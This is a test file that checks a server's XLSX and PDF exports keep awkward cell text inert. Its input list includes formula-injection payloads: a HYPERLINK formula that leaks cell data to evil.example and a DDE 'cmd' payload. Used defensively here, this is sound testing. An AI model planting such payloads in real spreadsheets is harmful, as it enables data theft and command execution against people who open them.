import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createDrawing } from '#server/exports/workers/create-drawing.ts';
import { putProjects } from '#server/projects/history/put-project-store.ts';
import { writeRevision } from '#server/db/revision-log.ts';
import { openApi, type TestApi } from '../../setup/api/api.ts';
import {
  hasOffice,
  hasPoppler,
  officeTurns,
  pdfFacts,
  pdfText,
} from '../../setup/documents/viewers.ts';
import { record } from '../../setup/api/store-records.ts';

const awkward = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "=cmd|'/C calc'!A0",
  '"=1+1',
  ';=1+1',
  '＝1+1',
  '+7 495 123-45-67',
  '髙﨑 𠮷野 & <b>',
  'a_x0041_b',
] as const;
const drawing = createDrawing();
let api: TestApi;
beforeAll(async () => {
  api = await openApi(undefined, { drawing });
  await writeRevision(
    api.db,
    { author: 'a', kind: 'import', reason: 'r', origin: 'sample' },
    (trx, revision) =>
      putProjects(
        trx,
        revision,
        awkward.map((text, i) => ({
          ...record(`X${i}`, {
            name: text,
            progress_text: text,
            amounts: {
              total_investment: {
                money: { minor: i === 0 ? '-57' : '123456789', currency: 'CNY' },
              },
            },
          }),
          origin: 'sample' as const,
        })),
      ),
  );
});
afterAll(async () => {
  await drawing.close();
  await api.close();
});
const file = async (path: string): Promise<Uint8Array> => {
  const response = await api.send('GET', `/api/v1/documents/${path}`);
  expect([path, response.status]).toEqual([path, 200]);
  return new Uint8Array(await response.arrayBuffer());
};

describe.skipIf(!hasOffice)('the workbook in LibreOffice', () => {
  it('has no formula but the sums of the outlook, keeps every text and number, and holds amounts in the unit of their column', async () => {
    const sheets = officeTurns(
      'workbook.xlsx',
      await file('workbook.xlsx?as_of=2021-04-16&lang=zh-CN'),
      'fods',
    ).toString();
    const escaped = (text: string): string =>
      text
        .replaceAll('&', '&amp;')
        .replaceAll('<', '&lt;')
        .replaceAll('>', '&gt;')
        .replaceAll('"', '&quot;')
        .replaceAll("'", '&apos;');
    const texts = [...awkward.map(escaped), '计划总投资（万元）', '90,000', '亿元'].map(
      (text) => `>${text}<`,
    );
    const parts = [
      'office:value="90000"',
      'office:value="350"',
      'office:value="-0.57"',
      'office:date-value="2020-01-10"',
    ];
    expect([...texts, ...parts].filter((text) => !sheets.includes(text))).toEqual([]);
    const formulas = [...sheets.matchAll(/table:formula="([^"]*)"/g)].map(([, one]) => one ?? '');
    expect(formulas.filter((one) => !/^of:=\[\.E\d+\]\+\[\.D\d+\]$/.test(one))).toEqual([]);
  });
});

describe.skipIf(!hasPoppler)('the report as a PDF', () => {
  it.each([
    ['zh-CN', '2021年第一季度进展报告', '入驻企业数'],
    ['ja', '2021年1–3月期進捗報告', '案件B03'],
    ['en', 'reportforQ12021', 'ProjectB03'],
  ] as const)(
    'is A4 with text that can be selected and a number on each page, in %s',
    async (language, title, word) => {
      const pdf = await file(`report.pdf?period=2021Q1&lang=${language}`);
      expect(pdfFacts(pdf)).toMatch(/Page size:\s+595 x 842 pts \(A4\)/);
      const text = pdfText(pdf);
      for (const part of [title, word]) expect(text).toContain(part);
      expect(await file(`report.pdf?period=2021Q1&lang=${language}`)).toEqual(pdf);
    },
    60_000,
  );
});
